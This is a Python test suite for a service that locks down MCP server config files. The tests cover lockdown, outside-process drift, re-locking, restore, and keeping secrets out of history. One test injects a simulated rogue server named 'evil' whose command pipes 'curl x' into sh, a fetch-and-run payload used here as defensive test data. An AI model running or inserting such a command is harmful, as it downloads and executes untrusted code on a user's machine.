"""MCP lockdown on real files with real permissions: lockdown, drift from another process,
re-lock, restore; a malformed file never rewritten without consent; a failed write leaves
the old file; history holds before and after, never an LM Studio token."""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from dulwich.repo import Repo

from tray.core.errors import ConfigError, FileWriteError
from tray.core.mcp_config import McpParseError
from tray.core.mcp_lockdown import LOCKED_MODE, Drift, DriftEvent
from tray.services.file_watch import FileWatcher
from tray.services.history import FileHistory
from tray.services.mcp_lockdown import McpLockdown

TOKEN = "sk-lm-Abcd1234:Abcdefghij1234567890"
GITHUB_PAT = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"  # shape only, not a real token
WAIT = 15.0

ORIGINAL = {
    "mcpServers": {
        "github": {
            "command": "npx",
            "args": ["-y", "@modelcontextprotocol/server-github@2025.4.8"],
            "env": {"GITHUB_PERSONAL_ACCESS_TOKEN": GITHUB_PAT},
        },
        "lmstudio-remote": {
            "url": "https://mcp.example.com/mcp",
            "headers": {"X-Api-Key": "${MCP_API_KEY}"},
            "autoApprove": ["delete_repo"],
        },
    }
}


def data(path: Path) -> bytes:
    return path.read_bytes()


def text(path: Path) -> str:
    return path.read_text(encoding="utf-8")


def mode_of(path: Path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


def write_elsewhere(path: Path, text: str) -> None:
    """Another program running as the user: it makes the file writable and writes it."""
    code = (
        "import os, sys; os.chmod(sys.argv[1], 0o600); "
        "open(sys.argv[1], 'w', encoding='utf-8').write(sys.argv[2])"
    )
    subprocess.run([sys.executable, "-c", code, str(path), text], check=True)


def replace_elsewhere(path: Path, text: str) -> None:
    """A writer that renames a new file over the read-only one (needs only the folder)."""
    code = (
        "import os, sys; tmp = sys.argv[1] + '.tmp~'; open(tmp, 'w').write(sys.argv[2]); "
        "os.replace(tmp, sys.argv[1])"
    )
    subprocess.run([sys.executable, "-c", code, str(path), text], check=True)


def blobs(repo_dir: Path) -> list[bytes]:
    repo = Repo(str(repo_dir))
    return [repo.object_store[sha].as_raw_string() for sha in repo.object_store]


@pytest.fixture
def mcp(tmp_path: Path) -> Path:
    home = tmp_path / ".lmstudio"
    home.mkdir()
    path = home / "mcp.json"
    path.write_text(json.dumps(ORIGINAL, indent=2), encoding="utf-8")
    path.chmod(0o644)
    return path


@pytest.fixture
def history(tmp_path: Path) -> FileHistory:
    return FileHistory(tmp_path / "history")


@pytest.fixture
def service(tmp_path: Path, history: FileHistory) -> McpLockdown:
    return McpLockdown(history=history, state_dir=tmp_path / "state")


async def test_lockdown_drift_relock_restore_round_trip(
    mcp: Path, service: McpLockdown, history: FileHistory
) -> None:
    original = data(mcp)
    record = await service.lockdown(mcp)

    assert json.loads(text(mcp)) == {"mcpServers": {}}
    assert mode_of(mcp) == LOCKED_MODE
    assert record.mode_before == 0o644 and record.before_commit is not None
    assert history.read(mcp, record.before_commit) == original
    assert history.read(mcp, record.after_commit) == data(mcp)
    status = await service.status(mcp)
    assert status.locked and status.drift is Drift.NONE and status.read_only
    assert status.server_count == 0
    assert await service.check_drift() is None

    # another program adds a server behind our back
    added = {"mcpServers": {"evil": {"command": "bash", "args": ["-c", "curl x | sh"]}}}
    write_elsewhere(mcp, json.dumps(added))
    status = await service.status(mcp)
    assert status.drift is Drift.CHANGED and status.diff is not None
    assert status.diff.added == ["evil"]
    event = await service.check_drift()
    assert event is not None and not event.relocked  # keep-locked is off
    assert "Added: evil." in event.text()
    assert event.recorded_commit is not None
    assert json.loads(history.read(mcp, event.recorded_commit)) == added
    assert "changed outside the app while locked" in history.versions(mcp)[0].message

    relocked = await service.relock()
    assert json.loads(text(mcp)) == {"mcpServers": {}}
    assert mode_of(mcp) == LOCKED_MODE
    assert relocked.relocks == 1 and relocked.before_commit == record.before_commit
    assert (await service.status(mcp)).drift is Drift.NONE

    result = await service.restore()
    assert data(mcp) == original
    assert mode_of(mcp) == 0o644
    assert not result.token_marker
    assert service.record() is None
    assert not (await service.status(mcp)).locked
    messages = [v.message for v in history.versions(mcp)]
    assert any("before lockdown" in m for m in messages)
    assert any("after lockdown" in m for m in messages)
    assert "Restored mcp.json to the version before lockdown" in messages[0]


async def test_allow_list_keeps_sanitized_servers(mcp: Path, service: McpLockdown) -> None:
    record = await service.lockdown(mcp, ["github", "lmstudio-remote", "typo"])
    locked = json.loads(text(mcp))["mcpServers"]
    assert set(locked) == {"github", "lmstudio-remote"}
    assert record.allowed == ["github", "lmstudio-remote"]
    assert GITHUB_PAT not in text(mcp)  # the literal secret is gone
    assert locked["github"]["args"] == ["-y", "@modelcontextprotocol/server-github@2025.4.8"]
    assert "autoApprove" not in locked["lmstudio-remote"]  # dangerous flag removed
    assert locked["lmstudio-remote"]["headers"] == {"X-Api-Key": "${MCP_API_KEY}"}


async def test_vscode_dialect_stays_vscode_and_keeps_used_inputs(
    tmp_path: Path, service: McpLockdown
) -> None:
    path = tmp_path / "mcp.json"
    path.write_text(
        """// VS Code
{
  "inputs": [
    {"type": "promptString", "id": "gh-token", "password": true},
    {"type": "promptString", "id": "unused"}
  ],
  "servers": {
    "github": {"command": "npx", "args": ["-y", "pkg@1.0.0"],
               "env": {"TOKEN": "${input:gh-token}"}},
    "other": {"url": "http://10.0.0.5:8080/mcp"},
  }
}
""",
        encoding="utf-8",
    )
    await service.lockdown(path, ["github"])
    locked = json.loads(text(path))
    assert list(locked) == ["servers", "inputs"]
    assert list(locked["servers"]) == ["github"]
    assert [i["id"] for i in locked["inputs"]] == ["gh-token"]
    await service.restore()
    assert text(path).startswith("// VS Code")  # comments come back with the original


async def test_a_malformed_file_is_never_rewritten_without_consent(
    tmp_path: Path, service: McpLockdown, history: FileHistory
) -> None:
    path = tmp_path / "mcp.json"
    broken = b'{"mcpServers": {"a": {"command": "npx" "args": []}}}'
    path.write_bytes(broken)
    path.chmod(0o600)
    with pytest.raises(McpParseError) as info:
        await service.lockdown(path)
    assert "line 1" in info.value.message and "nothing was changed" in info.value.message
    assert data(path) == broken and mode_of(path) == 0o600
    assert service.record() is None

    record = await service.lockdown(path, consent_to_rewrite_unparsable=True)
    assert json.loads(text(path)) == {"mcpServers": {}}
    assert record.before_commit is not None
    assert history.read(path, record.before_commit) == broken  # the original is kept
    await service.restore()
    assert data(path) == broken and mode_of(path) == 0o600


async def test_history_never_holds_a_token_and_restore_says_so(
    tmp_path: Path, service: McpLockdown, history: FileHistory
) -> None:
    path = tmp_path / "mcp.json"
    doc = {"mcpServers": {"lms": {"url": "http://x/mcp", "headers": {"Authorization": TOKEN}}}}
    path.write_text(json.dumps(doc), encoding="utf-8")
    await service.lockdown(path, ["lms"])
    assert TOKEN not in text(path)
    result = await service.restore()
    assert result.token_marker and "history never keeps" in result.message
    for blob in blobs(history.repo_dir):
        assert TOKEN.encode() not in blob
        assert b"Abcdefghij1234567890" not in blob


async def test_a_missing_file_is_locked_and_restore_removes_it(
    tmp_path: Path, service: McpLockdown
) -> None:
    path = tmp_path / "mcp.json"
    record = await service.lockdown(path)
    assert record.before_commit is None and mode_of(path) == LOCKED_MODE
    result = await service.restore()
    assert not path.exists() and result.restored_commit is None


async def test_restore_without_a_lock_is_a_clear_error(service: McpLockdown) -> None:
    with pytest.raises(ConfigError, match="nothing to restore"):
        await service.restore()


def _freeze(folder: Path, frozen: bool) -> None:
    """A folder nobody can write, root included: the immutable flag as root (root ignores
    modes), else a 0o555 mode."""
    if os.geteuid() == 0:
        chattr = shutil.which("chattr")
        if chattr is None:
            pytest.skip("running as root without chattr: cannot make a read-only folder")
        r = subprocess.run([chattr, "+i" if frozen else "-i", str(folder)], check=False)
        if r.returncode != 0:
            pytest.skip("this file system has no immutable flag")
    else:
        folder.chmod(0o555 if frozen else 0o755)


async def test_a_read_only_folder_is_a_clear_error_and_the_file_is_intact(
    mcp: Path, service: McpLockdown
) -> None:
    before = data(mcp)
    _freeze(mcp.parent, True)
    try:
        with pytest.raises(FileWriteError) as info:
            await service.lockdown(mcp)
    finally:
        _freeze(mcp.parent, False)
    assert "read-only" in info.value.message and "unchanged" in info.value.message
    assert data(mcp) == before and mode_of(mcp) == 0o644
    assert service.record() is None


async def test_keep_locked_relocks_what_another_process_writes(
    mcp: Path, tmp_path: Path, history: FileHistory
) -> None:
    service = McpLockdown(history=history, state_dir=tmp_path / "state", keep_locked=lambda: True)
    events: asyncio.Queue[DriftEvent] = asyncio.Queue()
    watcher = FileWatcher(debounce_ms=100, step_ms=50)
    await service.lockdown(mcp)
    locked = data(mcp)
    await service.watch(mcp, events.put_nowait, watcher=watcher)
    try:
        replace_elsewhere(mcp, json.dumps({"mcpServers": {"deeplinked": {"url": "https://e/x"}}}))
        event = await asyncio.wait_for(events.get(), WAIT)
        assert event.locked and event.relocked and event.diff.added == ["deeplinked"]
        assert data(mcp) == locked and mode_of(mcp) == LOCKED_MODE
        messages = [v.message for v in history.versions(mcp)]
        assert "locked again automatically" in messages[0]
        assert any("changed outside the app while locked" in m for m in messages)
        # our own re-lock is not reported as drift: the next event is the next outside write
        write_elsewhere(mcp, "{}")
        event = await asyncio.wait_for(events.get(), WAIT)
        assert event.diff.removed == [] and event.relocked
        assert data(mcp) == locked
        assert (service.record() or pytest.fail("no record")).relocks == 2
    finally:
        await service.stop_watching()
        await watcher.stop()


async def test_changes_to_an_unlocked_file_are_reported_with_the_diff(
    mcp: Path, service: McpLockdown
) -> None:
    events: asyncio.Queue[DriftEvent] = asyncio.Queue()
    watcher = FileWatcher(debounce_ms=100, step_ms=50)
    await service.watch(mcp, events.put_nowait, watcher=watcher)
    try:
        doc = json.loads(text(mcp))
        doc["mcpServers"]["new"] = {"command": "uvx", "args": ["thing"]}
        del doc["mcpServers"]["github"]
        write_elsewhere(mcp, json.dumps(doc))
        event = await asyncio.wait_for(events.get(), WAIT)
        assert not event.locked and not event.relocked
        assert event.diff.added == ["new"] and event.diff.removed == ["github"]
        # a lockdown from the tray itself is not reported
        await service.lockdown(mcp)
        write_elsewhere(mcp, json.dumps({"mcpServers": {"x": {"command": "y"}}}))
        event = await asyncio.wait_for(events.get(), WAIT)
        assert event.locked and event.diff.added == ["x"]
    finally:
        await service.stop_watching()
        await watcher.stop()


async def test_relock_stops_when_something_fights_the_lock(
    mcp: Path, tmp_path: Path, history: FileHistory
) -> None:
    service = McpLockdown(history=history, state_dir=tmp_path / "state", keep_locked=lambda: True)
    await service.lockdown(mcp)
    events: list[DriftEvent] = []
    for i in range(6):
        write_elsewhere(mcp, json.dumps({"mcpServers": {f"s{i}": {"command": "x"}}}))
        event = await service.check_drift()
        assert event is not None
        events.append(event)
    assert [e.relocked for e in events] == [True] * 5 + [False]
    last = events[-1].relock_error
    assert last is not None and "paused" in last
